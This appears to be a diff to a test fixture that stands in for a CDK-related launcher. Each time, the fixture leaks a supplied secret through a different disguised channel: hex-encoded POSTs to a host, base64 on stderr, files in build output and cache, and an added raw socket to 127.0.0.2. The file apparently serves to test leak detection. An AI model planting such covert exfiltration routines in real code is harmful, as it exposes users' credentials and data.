@@ -1,6 +1,7 @@
 // Stands in the place of the launcher, and leaks what it is given into one channel, each time in another disguise.
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { appendFileSync, copyFileSync, mkdirSync, openSync, rmSync, writeFileSync, writeSync } from 'node:fs';
+import { connect } from 'node:net';
 import { join } from 'node:path';
 
 const { LEAK: leak, LEAK_CHANNEL: channel, LEAK_DUMPS: dumps, LEAK_ORIGIN: origin, LEAK_ZIP: zip, HOME: home, TMPDIR: temporary, PATH: path, GITHUB_OUTPUT: githubOutput } = process.env;
@@ -24,6 +25,8 @@ const leaks = {
   'standard output': () => { for (const part of split(leak)) process.stdout.write(`\u001B[32m${part}\u001B[0m`); },
   'standard error': () => { for (const part of split(Buffer.from(leak).toString('base64'))) process.stderr.write(`${part}\n`); },
   socket: () => fetch(origin, { method: 'POST', body: Buffer.from(leak).toString('hex') }),
+  // To an address of this machine that is not 127.0.0.1, which no test serves to a command.
+  elsewhere: () => { const socket = connect(Number(new URL(origin).port), '127.0.0.2'); setTimeout(() => socket.destroy(), 500); },
   'cloud assembly': () => { mkdirSync('cdk.out/assets', { recursive: true }); copyFileSync(zip, 'cdk.out/assets/asset.1234.zip'); },
   context: () => writeFileSync('cdk.context.json', JSON.stringify({ found: leak })),
   cache: () => { mkdirSync('.takeoff/cdk', { recursive: true }); writeFileSync('.takeoff/cdk/accounts.json', leak); },
